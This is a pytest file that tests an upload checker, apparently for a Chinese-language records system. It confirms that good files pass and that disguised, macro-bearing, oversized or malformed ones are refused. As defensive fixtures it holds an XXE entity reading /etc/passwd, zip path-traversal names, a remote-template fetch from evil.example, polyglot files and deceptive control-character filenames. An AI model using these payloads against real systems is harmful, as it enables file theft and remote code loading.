"""Uploads: what passes, and everything that hides."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hengping.ground.errors import BadInput
from hengping.ground.records import uploads
from hengping.ground.records.uploads import KINDS, allowed_suffixes, check_upload

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def office(members: dict[str, bytes], marker: str = "word/document.xml") -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": b"<Types/>", marker: b"<w/>", **members}.items():
            archive.writestr(name, content)
    return into.getvalue()


def pdf(body: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n" + body + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


GOOD = {
    "a.pdf": pdf(),
    "a.ofd": office({}, "OFD.xml"),
    "附件.DOCX": office({"word/media/image1.png": b"\x89PNG"}),
    "a.xlsx": office({}, "xl/workbook.xml"),
    "a.jpg": b"\xff\xd8\xff\xe0",
    "a.jpeg": b"\xff\xd8\xff\xe1",
    "a.png": b"\x89PNG\r\n\x1a\n",
    "a.bmp": b"BM",
    "a.tif": b"II*\0",
    "a.heic": b"\0\0\0\x18ftypheic",
    "a.mp4": b"\0\0\0\x18ftypisom",
    "a.mov": b"\0\0\0\x14ftypqt  ",
    "a.m4a": b"\0\0\0\x18ftypM4A ",
    "a.mp3": b"ID3\x04",
    "b.mp3": b"\xff\xfb\x90",
    "a.wav": b"RIFF\x24\0\0\0WAVE",
    "a.txt": "说明".encode(),
    "b.txt": "说明".encode("gb18030"),
    "a.csv": "\ufeff序号,名称".encode(),
}


@pytest.mark.parametrize("name", GOOD)
def test_it_works(name: str) -> None:
    suffix = name.rpartition(".")[2].lower()
    assert check_upload(name, GOOD[name]) == KINDS[suffix].media_type


def test_every_kind_has_a_good_example() -> None:
    assert {f".{name.rpartition('.')[2].lower()}" for name in GOOD} == set(allowed_suffixes())


def refused(name: str, content: bytes) -> str:
    with pytest.raises(BadInput) as caught:
        check_upload(name, content)
    assert list(caught.value.fields) == ["file"]
    return str(caught.value)


@pytest.mark.parametrize("suffix", [suffix for suffix in KINDS if suffix not in ("txt", "csv")])
def test_it_refuses_what_only_bears_the_name(suffix: str) -> None:
    assert "与扩展名不符" in refused(f"a.{suffix}", b"MZ\x90\0 a program")


def test_it_refuses_by_name_and_size(settings: Any) -> None:
    assert refused("a.txt", b"") == "文件是空的。"
    assert "不接受这种文件" in refused("a.exe", b"MZ")
    assert "不接受这种文件" in refused("txt2", b"MZ")
    assert "另存为 docx" in refused("a.doc", b"\xd0\xcf")
    assert "含有宏" in refused("a.xlsm", b"PK")
    assert "解压后逐个" in refused("a.zip", b"PK")
    for name in (" ", "../a.txt", "a\\b.txt", "a" * 200 + ".txt", "长" * 200 + ".txt"):
        assert "文件名为空、过长" in refused(name, b"x")
    for name in ("a\0.txt", "a\n.txt", "\x1b[31m.txt", "照片\u202egpj.txt", "a\u200b.txt", "\ufeffa.txt", "\ud800.txt"):
        assert "看不见的控制字符" in refused(name, b"x")
    settings.HENGPING_UPLOAD_BYTES = 1024 * 1024
    assert check_upload("a.txt", b"x" * 1024 * 1024) == "text/plain"
    assert "超过1MB" in refused("a.txt", b"x" * (1024 * 1024 + 1))


def test_a_picture_is_what_its_bytes_say() -> None:
    assert check_upload("IMG_0001.HEIC", b"\xff\xd8\xff\xe0") == "image/jpeg"
    assert "与扩展名不符" in refused("a.heic", b"ID3\x04"), "a sound is no picture"


@pytest.mark.parametrize(
    ("members", "said"),
    [
        ({"word/vbaProject.bin": b"x"}, "宏"),
        ({"word/activeX/activeX1.xml": b"x"}, "控件"),
        ({"xl/macrosheets/sheet1.xml": b"x"}, "宏"),
        ({"[Content_Types].xml": b"<x ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"}, "宏"),
        ({"word/embeddings/a.bin": b"PK\x03\x04"}, "内嵌了压缩包"),
        ({"word/embeddings/a.bin": b"Rar!\x1a"}, "内嵌了压缩包"),
        ({"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0\xa1"}, "内嵌了程序或者对象"),
        ({"word/embeddings/a.bin": b"MZ\x90"}, "内嵌了程序"),
        (
            {"word/a.xml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x/>"},
            "文档类型",
        ),
        ({"word/a.xml": "<!DOCTYPE x><x/>".encode("utf-16")}, "文档类型"),
        ({"../../etc/passwd": b"x"}, "内部结构"),
        ({"/etc/passwd": b"x"}, "内部结构"),
        ({"word/media/a.bin": bytes(30_000_000)}, "解压后过大"),
        ({f"word/{number}.xml": b"" for number in range(2000)}, "部件过多"),
    ],
)
def test_it_refuses_an_office_document_with(members: dict[str, bytes], said: str) -> None:
    assert said in refused("a.docx", office(members))


RELATION = (
    b'<Relationship Id="r1" Type="http://schemas/officeDocument/relationships/%s" Target="%s" TargetMode="External"/>'
)


@pytest.mark.parametrize("kind", [b"attachedTemplate", b"oleObject", b"frame", b"subDocument"])
def test_it_refuses_a_document_that_fetches_something(kind: bytes) -> None:
    fetching = office({"word/_rels/settings.xml.rels": RELATION % (kind, b"http://evil.example/x.dotm")})
    assert "从别处取用" in refused("a.docx", fetching)


def test_a_link_in_a_document_fetches_nothing() -> None:
    links = RELATION % (b"hyperlink", b"https://www.example.org/")
    own = RELATION.replace(b' TargetMode="External"', b"") % (b"attachedTemplate", b"../template.dotx")
    assert check_upload("a.docx", office({"word/_rels/document.xml.rels": links + own})) == DOCX


@pytest.mark.parametrize("name", ["a.pdf", "a.jpg", "a.png", "a.mp4", "a.csv"])
def test_it_refuses_what_is_two_files_at_once(name: str) -> None:
    """A picture or paper that is also an archive: each program would open another file."""
    assert "末尾附有压缩包" in refused(name, GOOD[name] + office({"program.exe": b"MZ"}))
    assert check_upload(name, GOOD[name])


def test_it_refuses_another_document_under_this_name() -> None:
    assert "与扩展名不符" in refused("a.docx", office({}, "xl/workbook.xml"))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_it_refuses_a_name_that_stands_twice() -> None:
    into = io.BytesIO(office({}))
    with zipfile.ZipFile(into, "a") as archive:
        archive.writestr("word/document.xml", b"<other/>")
    assert "内部结构" in refused("a.docx", into.getvalue())


def test_it_refuses_an_encrypted_document() -> None:
    content = bytearray(office({}))
    for place in range(len(content) - 4):
        if content[place : place + 4] == b"PK\x01\x02":
            content[place + 8] |= 1
    assert "密码" in refused("a.docx", bytes(content))


def test_it_counts_what_comes_out_not_what_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "LARGEST_INSIDE", 1000)
    assert "解压后过大" in refused("a.docx", office({"word/a.xml": bytes(range(256)) * 8}))
    assert check_upload("a.docx", office({})) == DOCX


def test_it_refuses_a_damaged_document() -> None:
    content = office({"word/a.xml": bytes(range(256)) * 8})
    place = content.index(b"word/a.xml") + 30
    assert "损坏" in refused("a.docx", content[:place] + b"\xff\xff\xff\xff" + content[place + 4 :])
    assert "损坏" in refused("a.docx", content[:-5])
    assert "损坏" in refused("a.docx", b"PK\x03\x04")


def test_it_refuses_what_is_no_text() -> None:
    assert "不是文本" in refused("a.txt", b"a\0b")
    assert "编码无法识别" in refused("a.txt", b"\xff\xff\xff")


@given(st.sampled_from(list(KINDS)), st.binary(max_size=300))
def test_nothing_else_comes_out_than_yes_or_no(suffix: str, content: bytes) -> None:
    begin = {"docx": b"PK\x03\x04", "pdf": b"%PDF-1.4"}.get(suffix, b"")
    fault = uploads._fault(f"a.{suffix}", begin + content)
    assert fault is None or fault.endswith("。")
